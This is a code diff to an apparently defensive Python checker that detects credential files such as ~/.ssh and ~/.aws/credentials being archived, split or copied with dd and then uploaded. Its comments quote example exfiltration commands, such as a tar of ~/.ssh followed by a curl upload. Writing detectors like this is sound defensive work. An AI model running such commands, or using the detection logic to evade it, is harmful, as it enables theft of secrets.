@@ -133,6 +133,12 @@ LOOK_BACK = 200  # earlier commands of the line read for what they made from a c
 OUTPUT_OPS = frozenset((">", ">>", ">|", "&>", "&>>"))
 
 
+# programs that write a file's pieces under names made from a prefix operand
+PIECE_WRITERS = frozenset(("split", "gsplit", "csplit", "gcsplit"))
+# dd's operands (`if=FILE`, `of=FILE`): the value is the path
+ASSIGN_WORD = re.compile(r"^(?:if|of)=")
+
+
 def _derived(view, sent: list[str], params: dict) -> str:
     """A file the line made from a credential before sending it: archived, encoded, encrypted,
     compressed or copied first (`tar czf x.tgz ~/.ssh && curl -T x.tgz URL`, `base64
@@ -158,10 +164,13 @@ def _derived(view, sent: list[str], params: dict) -> str:
         origin = _reads(cmd, files, made, home)
         if not origin:
             continue
+        # `split -b 100 ~/.aws/credentials p`, `csplit -f p`: the pieces are files named from
+        # the prefix (`paa`, `p00`), each a part of the credential
+        pieces = cmd.program in PIECE_WRITERS
         for word in _operands(cmd):
             key = _key(word, cmd.cwd, home)
             if key:
-                made.setdefault(key, origin)
+                made.setdefault(key + "*" if pieces else key, origin)
     if not made:
         return ""
     for path in sent:
@@ -169,7 +178,8 @@ def _derived(view, sent: list[str], params: dict) -> str:
         if not key:
             continue
         for place, origin in made.items():
-            if key == place or key.startswith(place.rstrip("/") + "/"):
+            if key == place or key.startswith(place.rstrip("/") + "/") or \
+                    place.endswith("*") and key.startswith(place[:-1]):
                 return f"{path} (made from {origin} earlier in the line)"
     return ""
 
@@ -184,10 +194,12 @@ def _reads(cmd, files, made: dict, home: str) -> str:
         words += [w for argv in (stdin.upstream or ((stdin.producer,) if stdin.producer
                                                     else ())) for w in argv[1:]][:256]
     for word in words:
-        hit = credential(word, files)
+        hit = credential(word, files) or (ASSIGN_WORD.match(word) is not None and
+                                          credential(word.partition("=")[2], files))
         if hit:
             return hit
-        key = _key(word.partition("=")[2] if word.startswith("-") else word, cmd.cwd, home)
+        key = _key(word.partition("=")[2] if word.startswith("-") or ASSIGN_WORD.match(word)
+                   else word, cmd.cwd, home)
         if key in made:
             return made[key]
     return ""
@@ -198,7 +210,7 @@ def _operands(cmd) -> list[str]:
     that is not an option (an option's `=VALUE` included: `--output=x.gpg`)."""
     out = [r.target.text for r in cmd.redirects if r.op in OUTPUT_OPS and r.target is not None]
     for word in (w.text for w in cmd.words[1:256]):
-        if word.startswith("-"):
+        if word.startswith("-") or ASSIGN_WORD.match(word):  # `--output=x`, dd's `of=x`
             value = word.partition("=")[2]
             if value:
                 out.append(value)
